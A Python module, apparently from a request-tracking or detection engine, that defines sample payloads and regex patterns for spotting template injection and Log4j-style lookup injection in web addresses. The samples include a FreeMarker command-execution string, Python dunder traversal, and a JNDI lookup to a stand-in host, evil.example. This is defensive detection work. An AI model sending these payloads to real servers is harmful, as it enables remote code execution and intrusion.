"""Expressions for template engines, and lookups.

Templates that were not filled in leave `{{ image.url }}` or `${id}` in addresses, so a name alone
tells nothing.
"""

from __future__ import annotations

from tracking.engine.families import LOOKUP_INJECTION, TEMPLATE_INJECTION
from tracking.engine.payloads.payload import NAMED, Payload

TEMPLATES = (
    Payload(
        TEMPLATE_INJECTION,
        "/?x={{7*7}}",
        ("{{", "${", "#{", "%{", "*{", "@(", "<%="),
        r"(?:\{\{|[$#%*]\{|@\(|<%=) {0,3}[(\"']{0,2}-?\d{1,12} {0,2}[-*+/] {0,2}['\"]?\d",
    ),
    Payload(
        TEMPLATE_INJECTION,
        "/?x={{config.items()}}",
        ("{{",),
        r"\{\{[^{}]{0,96}(?:__|config\b|self\.|request\.|cycler|joiner|lipsum|namespace|_self"
        r"|constructor|\['|'\.|\.to(?:upper|lower)case|\|(?:attr|join|map|filter|sort|passthru)"
        r"|dump\(|system|exec|popen)",
    ),
    Payload(
        TEMPLATE_INJECTION,
        '/?x=${"freemarker.template.utility.Execute"?new()("id")}',
        ("${", "$ {", "%{", "#{", "*{", "~{"),
        r"\$ \{['\"$]|[$%#*~]\{ {0,2}(?:[#@'\"(~]|t ?\(|java\.|class\.|new |\w{1,40}\?new"
        r"|pagecontext|facescontext|applicationscope|sessionscope|requestscope|system\(|exec\(|ex\("
        r"|self\.|global\.|process\.)",
    ),
    Payload(
        TEMPLATE_INJECTION,
        '/?x=<#assign ex="freemarker.template.utility.Execute"?new()>',
        ("freemarker", "<#", "?new"),
        r"freemarker\.template\.utility|\?new\(\)"
        r"|<#(?:assign|list|include|import) \w{1,32} ?[=\"'a]",
    ),
    Payload(
        TEMPLATE_INJECTION,
        "/?x=''.__class__.__mro__",
        ("__class__", "__mro__", "__subclasses__", "__globals__", "__builtins__"),
        r"[.\['\"|_]__(?:class|mro|subclasses|globals|builtins)__",
    ),
    Payload(
        TEMPLATE_INJECTION,
        "/?x={$smarty.version}",
        ("smarty", "{php}", "[php]", "{%", "#set", "$class."),
        r"\{\$smarty\.|[{\[]php[}\]]"
        rf"|(?:{NAMED}|['\"}}]) ?\{{% ?(?:import|include|extends|for|set"
        r"|if|debug|raw|macro|from|with)\b|#set ?\(\$|\$class\.inspect",
    ),
    # Log4j and Commons Text look up and nest; no other text does.
    Payload(
        LOOKUP_INJECTION,
        "/?x=${${::-j}ndi:ldap://evil.example/a}",
        ("${", "$ {", "$\\{", "jndi:"),
        r"\$ ?\\?\{ ?(?:jndi|lower|upper|sys|java|script|dns|url:utf|base64\w{0,8}|::-)\\?:?"
        r"[\w:$/{.-]|\$ ?\\?\{[^}]{0,64}:-[a-z:/.]\\?\}|\{jndi:|jndi:(?:ldaps?|rmi|dns|iiop)://",
    ),
)
